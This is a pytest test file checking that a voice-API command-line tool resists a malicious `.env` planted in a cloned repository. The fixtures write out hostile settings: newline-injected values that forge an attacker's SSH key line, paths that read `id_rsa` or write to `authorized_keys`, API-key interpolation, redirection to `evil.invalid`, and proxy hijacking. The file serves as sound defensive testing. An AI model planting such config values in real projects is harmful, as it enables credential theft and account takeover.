"""Somebody else's `.env` in the folder: what it wants to read, to write and to be sent."""

from __future__ import annotations

import asyncio
import json
import os
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from fakes import endpoint, s2s, tone, write_wav
from websockets.asyncio.client import connect
from websockets.asyncio.server import ServerConnection, serve
from websockets.exceptions import ConnectionClosed

pytestmark = pytest.mark.program

MINE = {"OPENAI_API_KEY": "sk-mine-1234567890", "S2S_API_KEY": "mine-too-1234567890"}
PRIVATE = "-----BEGIN OPENSSH PRIVATE KEY-----"
LINE = "ssh-ed25519 AAAAC3Nz attacker"
SILENT = {"PULSE_SERVER": "unix:/nowhere"}  # no sound card


class Listener:
    """An endpoint that writes down everything it is sent."""

    def __init__(self) -> None:
        self.url = ""
        self.heard: list[str] = []

    @property
    def port(self) -> int:
        return urlsplit(self.url).port or 0

    async def serve(self, behind: str, down: asyncio.Event, up: threading.Event) -> None:
        async def relay(client: ServerConnection) -> None:
            assert client.request
            self.heard += [client.request.path, *map(str, client.request.headers.raw_items())]
            async with connect(behind, max_size=None, proxy=None) as server:
                back = asyncio.create_task(self._back(server, client))
                with suppress(ConnectionClosed):
                    async for message in client:
                        self.heard.append(str(message))
                        await server.send(message)
                back.cancel()

        async with serve(relay, "127.0.0.1", 0, max_size=None) as listening:
            port = next(iter(listening.sockets)).getsockname()[1]
            self.url = f"ws://127.0.0.1:{port}/v1/realtime"
            up.set()
            await down.wait()

    @staticmethod
    async def _back(server: object, client: ServerConnection) -> None:
        with suppress(ConnectionClosed):
            async for message in server:  # type: ignore[attr-defined]
                await client.send(message)


@contextmanager
def listener() -> Iterator[Listener]:
    """Run the endpoint on this machine behind one that writes down what it is sent."""
    spy, up, down = Listener(), threading.Event(), asyncio.Event()
    loop = asyncio.new_event_loop()
    with endpoint() as behind:
        thread = threading.Thread(
            target=lambda: loop.run_until_complete(spy.serve(behind, down, up))
        )
        thread.start()
        assert up.wait(30)
        try:
            yield spy
        finally:
            loop.call_soon_threadsafe(down.set)
            thread.join(30)
            loop.close()


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A home directory with what is worth stealing, and settings of the user's own."""
    (tmp_path / ".ssh").mkdir()
    (tmp_path / ".ssh" / "id_rsa").write_text(f"{PRIVATE}\n")
    (tmp_path / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAAC3Nz me\n")
    (tmp_path / ".bashrc").write_text("alias ll='ls -l'\n")
    (tmp_path / "config" / "s2s").mkdir(parents=True)
    own = "".join(f"{name}={key}-own\n" for name, key in MINE.items())
    (tmp_path / "config" / "s2s" / ".env").write_text(own)
    clone = tmp_path / "clone"
    clone.mkdir()
    write_wav(clone / "question.wav", tone(1500))
    return tmp_path


def planted(home: Path, url: str, *more: str) -> Path:
    """Put the file of somebody who wants all of it into the folder; returns that folder."""
    lines = [
        f"WS_URL={url}",
        f'MODEL="m\\n{LINE}\\n"',
        f'S2S_VOICE="marin\\n{LINE}\\n"',
        f'S2S_LANGUAGE="en\\n{LINE}\\n"',
        f"S2S_LOG_FILE={home}/.ssh/authorized_keys",
        f"S2S_INSTRUCTIONS=@{home}/.ssh/id_rsa",
        f"S2S_ENV_FILE={home}/config/s2s/.env",
        "S2S_MIC=monitor",
        *more,
    ]
    (home / "clone" / ".env").write_text("\n".join(lines) + "\n")
    return home / "clone"


def valuables(home: Path) -> dict[str, bytes]:
    """Return every file of the home directory but those of the folder that was cloned."""
    return {
        str(path): path.read_bytes()
        for path in sorted(home.rglob("*"))
        if path.is_file() and home / "clone" not in path.parents
    }


def run(home: Path, *arguments: str, **environment: str) -> tuple[int, str]:
    where = {"HOME": str(home), "XDG_CONFIG_HOME": str(home / "config"), **SILENT}
    where["XDG_CACHE_HOME"] = str(home.parent / "cache")  # names of devices, for completion
    done = s2s(*arguments, cwd=home / "clone", environment={**where, **environment})
    told = done.stderr.decode()
    assert "Traceback" not in told
    return done.returncode, told


ATTACKED = [
    (("send-wav", "question.wav"), 0),
    (("send-wav", "question.wav", "-vv"), 0),
    (("talk", "--in", "question.wav", "--out", "heard.wav"), 0),
    (("record", "take.wav"), 4),
    (("devices",), 4),
    (("devices", "test"), 4),
    (("devices", "pick", "--mic", "0"), 4),
]


@pytest.mark.parametrize(("command", "status"), ATTACKED)
@pytest.mark.parametrize("environment", [MINE, {}], ids=["keys-set", "keys-in-own-file"])
def test_nothing_is_read_written_or_sent_that_is_not_its_business(
    command: tuple[str, ...], status: int, environment: dict[str, str], home: Path
) -> None:
    with listener() as spy:
        planted(home, spy.url, "DEBUG=1", "S2S_VOICE2=${OPENAI_API_KEY}", "not a setting")
        before = valuables(home)
        ended, told = run(home, *command, **environment)
    assert ended == status, told
    assert valuables(home) == before
    heard = "\n".join(spy.heard)
    assert bool(heard) == (status == 0)
    assert "Authorization" not in heard
    for secret in (*MINE.values(), PRIVATE):
        assert secret not in heard
        assert secret not in told
    for line in (".env, line 5: S2S_LOG_FILE", ".env, line 6: S2S_INSTRUCTIONS"):
        assert told.count(line) == 1, told
    assert not any(line.startswith(LINE) for line in told.splitlines()), "no line is forged"


def test_the_same_file_is_the_users_when_the_user_names_it(home: Path) -> None:
    """What proves that the listener hears, and that the file would have done all this."""
    with listener() as spy:
        planted(home, spy.url, "S2S_API_KEY=${OPENAI_API_KEY}")
        status, told = run(home, "send-wav", "question.wav", "--env-file", "./.env", **MINE)
    assert status == 0, told
    heard = "\n".join(spy.heard)
    assert PRIVATE in heard
    assert MINE["S2S_API_KEY"] in heard, "the environment comes before the file"
    assert b"session.update" in (home / ".ssh" / "authorized_keys").read_bytes()


def test_a_key_put_together_of_the_environments_is_empty(home: Path) -> None:
    with listener() as spy:
        planted(home, spy.url, "S2S_API_KEY=${OPENAI_API_KEY}", "X=${S2S_API_KEY}")
        status, told = run(home, "send-wav", "question.wav", OPENAI_API_KEY=MINE["OPENAI_API_KEY"])
    assert status == 0, told
    assert "Authorization" not in "\n".join(spy.heard)
    assert "${OPENAI_API_KEY} in S2S_API_KEY is left empty" in told
    assert "OPENAI_API_KEY is not sent to 127.0.0.1" in told or "S2S_API_KEY is not sent" in told


def test_a_key_that_stands_beside_the_url_is_sent_there(home: Path) -> None:
    with listener() as spy:
        planted(home, spy.url, "PART=heirs-123456", "S2S_API_KEY=t${PART}")
        status, told = run(home, "send-wav", "question.wav", **MINE)
    assert status == 0, told
    assert "Bearer theirs-123456" in "\n".join(spy.heard)
    assert "theirs-123456" not in told
    assert told.count("which was found, and not S2S_API_KEY (the environment)") == 1


@pytest.mark.parametrize("quiet", [False, True])
def test_another_host_is_named_before_it_hears_anything(quiet: bool, home: Path) -> None:
    with listener() as spy:
        planted(home, f"ws://0.0.0.0:{spy.port}", "S2S_API_KEY=theirs-123456")
        options = ["--allow-plain-ws", *(["--quiet"] if quiet else [])]
        status, told = run(home, "send-wav", "question.wav", *options)
    assert status == 0, told
    assert spy.heard
    naming = [line for line in told.splitlines() if "0.0.0.0" in line]
    assert len(naming) == (0 if quiet else 1)


@pytest.mark.parametrize(
    "command", [("send-wav", "question.wav"), ("talk", "--in", "question.wav")]
)
def test_a_key_of_the_users_stops_the_way_to_another_host(
    command: tuple[str, ...], home: Path
) -> None:
    planted(home, "wss://evil.invalid")
    status, told = run(home, *command, "--text-only", **MINE)
    assert status == 2
    assert "S2S_API_KEY is not sent to evil.invalid" in told
    assert "--url evil.invalid" in told


def refuse_one(trap: socket.socket) -> None:
    with trap.accept()[0] as client:
        client.recv(65_536)
        client.sendall(b"HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\n")
        client.recv(65_536)


def test_proxies_and_certificates_are_the_environments(home: Path) -> None:
    with listener() as spy, socket.create_server(("127.0.0.1", 0)) as trap:
        proxy = f"http://127.0.0.1:{trap.getsockname()[1]}"
        names = ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy")
        settings = [f"{name}={proxy}" for name in names]
        settings += ["SSL_CERT_FILE=x", "SSL_CERT_DIR=x", "WEBSOCKETS_USER_AGENT=evil"]
        planted(home, f"ws://0.0.0.0:{spy.port}", *settings, "S2S_API_KEY=theirs-123456")
        status, told = run(home, "send-wav", "question.wav", "--allow-plain-ws")
        assert status == 0, told
        assert "evil" not in "\n".join(spy.heard)
        trap.settimeout(0.2)
        with pytest.raises(TimeoutError):
            trap.accept()
        trap.settimeout(60)
        caught = threading.Thread(target=refuse_one, args=(trap,))
        caught.start()
        again = ("send-wav", "question.wav", "--allow-plain-ws", "-f")
        assert run(home, *again, http_proxy=proxy)[0] == 5, "from there it counts"
        caught.join(60)


def test_a_warning_is_part_of_the_outcome_that_programs_read(home: Path) -> None:
    with listener() as spy:
        planted(home, spy.url)
        where = {"HOME": str(home), "XDG_CONFIG_HOME": str(home / "config")}
        options = ("--json", "--quiet")
        done = s2s("send-wav", "question.wav", *options, cwd=home / "clone", environment=where)
    assert done.stderr == b""
    assert any("S2S_LOG_FILE" in warning for warning in json.loads(done.stdout)["warnings"])


def test_a_file_that_everybody_may_write_is_passed_over(home: Path) -> None:
    with listener() as spy:
        (planted(home, spy.url) / ".env").chmod(0o666)
        (home / ".env").write_text(f"WS_URL={spy.url}\nMODEL=above\n")
        status, told = run(home, "send-wav", "question.wav", "-v")
    assert status == 0, told
    (warning,) = [line for line in told.splitlines() if "passed over" in line]
    assert "everybody may write it" in warning
    assert warning.endswith("--env-file ./.env")
    assert "= MODEL = above" in told


@pytest.mark.skipif(os.name == "nt" or os.geteuid() != 0, reason="only root gives files away")
def test_root_in_a_shared_folder_reads_nobodys_file(home: Path) -> None:
    with listener() as spy:
        clone = planted(home, spy.url)
        os.chown(clone / ".env", 12_345, -1)
        assert "belongs to somebody else" in run(home, "devices")[1]
        os.chown(clone, 12_345, -1)
        assert "belongs to somebody else" not in run(home, "devices")[1]
        clone.chmod(0o1777)
        assert "belongs to somebody else" in run(home, "devices")[1]
        clone.chmod(0o755)
        os.rename(clone / ".env", clone / "moved")
        (home / ".env").symlink_to(clone / "moved")
        assert "belongs to somebody else" in run(home, "devices")[1], "where the link leads"


def test_the_home_directory_has_its_short_name_in_every_path(home: Path) -> None:
    (home / "how.txt").write_text("Be brief, please.")
    (home / "my.env").write_text("S2S_LOG_FILE=~/log\nS2S_INSTRUCTIONS=@~/how.txt\n")
    (home / "clone" / "question.wav").rename(home / "question.wav")
    with listener() as spy:
        options = ["--url", spy.url, "--env-file=~/my.env"]
        status, told = run(home, "send-wav", "~/question.wav", "--output=~/a.wav", *options)
        assert status == 0, told
        options = [
            "--in=~/question.wav",
            "--out=~/b.wav",
            "--save=~/talks",
            "--events=~/c",
            *options,
        ]
        assert run(home, "talk", *options)[0] == 0
        status, told = run(home, "send-wav", "~nobody-of-this-name/a.wav", "--url", spy.url)
        assert status == 2
    assert "Be brief, please." in "\n".join(spy.heard)
    names = {path.name for path in home.iterdir()}
    assert {"log", "a.wav", "b.wav", "talks", "c"} <= names
    assert not any(path.name.startswith("~") for path in (home / "clone").iterdir())


def test_a_pipe_that_nobody_fills_delays_nothing_for_long(home: Path) -> None:
    os.mkfifo(home / "clone" / ".env")
    status, told = run(home, "devices")
    assert status == 4
    assert "its writer did not finish within 2 s" in told
